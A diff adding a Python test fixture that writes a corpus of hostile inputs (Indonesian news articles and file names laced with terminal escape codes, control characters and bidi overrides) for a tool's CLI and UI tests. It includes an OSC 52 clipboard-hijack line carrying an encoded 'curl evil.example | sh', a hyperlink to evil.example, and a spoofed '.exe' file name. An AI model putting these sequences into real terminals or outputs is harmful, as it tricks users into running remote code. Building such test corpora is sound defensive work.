@@ -1,0 +1,90 @@
+"""A corpus an attacker (or bad luck) wrote: escapes, controls and bidi overrides in text and
+file names, undecodable names, one name in two folders, odd encodings and line ends.
+
+Shared by the CLI and reader tests of tests/test_hostile_inputs.py and
+tests/ui/test_hostile_views.py.
+"""
+
+from __future__ import annotations
+
+import base64
+import os
+import re
+from pathlib import Path
+
+# What a terminal would act on: C0 and C1 controls, DEL, bidi controls, line separators.
+CONTROL = re.compile(
+    "[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
+)
+CLIPBOARD_PAYLOAD = base64.b64encode(b"curl evil.example | sh").decode()
+# Set the clipboard (OSC 52), clear the screen and scrollback, retitle the window.
+ATTACK_LINE = f"\x1b]52;c;{CLIPBOARD_PAYLOAD}\x07\x1b[2J\x1b[3J\x1b]0;PWNED\x07"
+
+BODY = [
+    "JAKARTA - Presiden Joko Widodo mengatakan pemerintah akan terus bekerja keras untuk "
+    "menurunkan harga beras di seluruh Indonesia pada tahun ini.",
+    "Menurut Menteri Perdagangan Zulkifli Hasan, stok beras nasional cukup untuk enam "
+    "bulan ke depan dan distribusi akan dipercepat ke daerah terpencil.",
+    '"Kami akan memastikan harga beras kembali normal dalam waktu dekat," kata Zulkifli '
+    "Hasan kepada wartawan di Istana Negara, Jakarta, Senin.",
+]
+
+
+def escapes_article() -> str:
+    """Escapes in the title, byline, body, a caption, and lines made of nothing else."""
+    return "\n".join(
+        [
+            "Harga \x1b[31mBeras\x1b[0m Naik Lagi di Pasar \x1b]0;TITLE\x07Jakarta Pekan Ini",
+            ATTACK_LINE,
+            "Penulis: Budi \x1b]52;c;" + CLIPBOARD_PAYLOAD + "\x07Santoso",
+            "",
+            BODY[0].replace("terus", "\u202eterus\u202c").replace("harga", "\x9b2Jharga"),
+            "",
+            "Foto: \x1bP+q544e\x1b\\ANTARA/\x1b[5mAditya\x1b[0m",
+            BODY[1].replace("stok", "\x1b[?1049hstok\x1b[?25l"),
+            "",
+            BODY[2].replace("normal", "nor\x00mal\x7f"),
+            "\x1b[?1049h\x1b[?25l\x1b[?1000h",
+            "\u2066\u2067\u2068\u2069\u202a\u202b\u202d",
+            "Baca juga: \x1b]8;;http://evil.example\x07Klik di sini\x1b]8;;\x07",
+        ]
+    )
+
+
+def plain_article(title: str, body: list[str] = BODY) -> str:
+    return "\n\n".join([title, *body]) + "\n"
+
+
+# Names (without .txt) a file system accepts and a terminal would obey.
+HOSTILE_NAMES = {
+    "escape": "judul\x1b]0;NAME\x07\x1b[2J",
+    "newline": "baris\nbaru",
+    "tab": "kolom\tdua",
+    "carriage return": "awal\rtimpa",
+    "bidi override": "berita\u202etxt.exe",
+    "C1 control": "c1\u009b2J",
+}
+UNDECODABLE_NAME = b"caf\xe9-latin1"  # Latin-1 bytes: not UTF-8
+
+
+def write_hostile_corpus(root: Path) -> Path:
+    """Every hostile case in one folder tree; returns the folder."""
+    corpus = root / "hostile"
+    corpus.mkdir()
+    (corpus / "escapes.txt").write_text(escapes_article(), encoding="utf-8")
+    for case, name in HOSTILE_NAMES.items():
+        (corpus / f"{name}.txt").write_text(
+            plain_article(f"Berita dengan nama berkas {case} yang aneh sekali"), encoding="utf-8"
+        )
+    raw = os.path.join(os.fsencode(corpus), UNDECODABLE_NAME + b".txt")
+    with open(raw, "wb") as handle:
+        handle.write(plain_article("Berita dengan nama berkas Latin-1 yang aneh").encode())
+    # A binary file whose name is an escape sequence: its problem line names it.
+    (corpus / "\x1b]0;BINARY\x07.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\xff")
+    for outlet in ("okezone", "antara"):
+        (corpus / outlet).mkdir()
+        (corpus / outlet / "0001.txt").write_text(
+            plain_article(f"Harga beras naik kata {outlet.title()} dalam laporan hari ini"),
+            encoding="utf-8",
+        )
+    return corpus
